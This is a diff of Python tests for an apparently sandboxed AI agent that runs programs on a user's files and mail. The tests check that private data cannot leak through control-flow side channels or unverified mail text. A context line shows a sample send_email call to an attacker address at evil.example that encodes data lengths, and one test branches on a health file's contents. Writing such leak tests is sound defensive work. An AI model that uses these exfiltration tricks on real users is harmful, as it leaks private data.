@@ -83,3 +83,28 @@ send_email(["eve@evil.example"], "Checklist", "".join([str(len(box)) for box in 
     result = home.ask(program, [says(False), *(says(bit == "0") for bit in bits)], person=Person())
     assert statuses(result) == [("send_email", "declined")]
     assert {"content-untrusted", "not-a-reader"} <= set(rules(result))
+
+
+def test_a_failure_on_private_words_decides_no_mail_unasked(tmp_path: Path) -> None:
+    """A program that stops on what a file says sends nothing, so that a queued mail goes out tells of the file."""
+    home = Home(tmp_path / "home")
+    home.file("health.txt", "I am well")
+    result = home.ask(
+        f'{SEND}note = read_file("health.txt").content\nx = {{False: "home"}}["cancer" in note]\n', person=Person()
+    )
+    assert (statuses(result), home.outbox()) == ([("send_email", "declined")], [])
+    assert "steer-not-readable" in rules(result)
+
+
+def test_words_spelled_by_many_choices_are_marked(tmp_path: Path) -> None:
+    """Each is the program's own word, picked whole; which of them stand there, and in what order, is the mail's doing."""
+    home = Home(tmp_path / "home")
+    home.deliver("call now call now meet now call now", subject="news")
+    result = home.ask(
+        'topics = ["call", "meet", "now"]\nfor word in search_emails("news")[0].body.split():\n'
+        "    for topic in topics:\n        if word == topic:\n            answer(topic)\n",
+        [],
+        person=Person(),
+    )
+    marked = [f"⟦{word}⟧¹" for word in ("call", "now", "call", "now", "meet", "now", "call", "now")]
+    assert result.text.split("\n") == [*marked, "  ¹ words of mail:unverified; nobody checked them"]
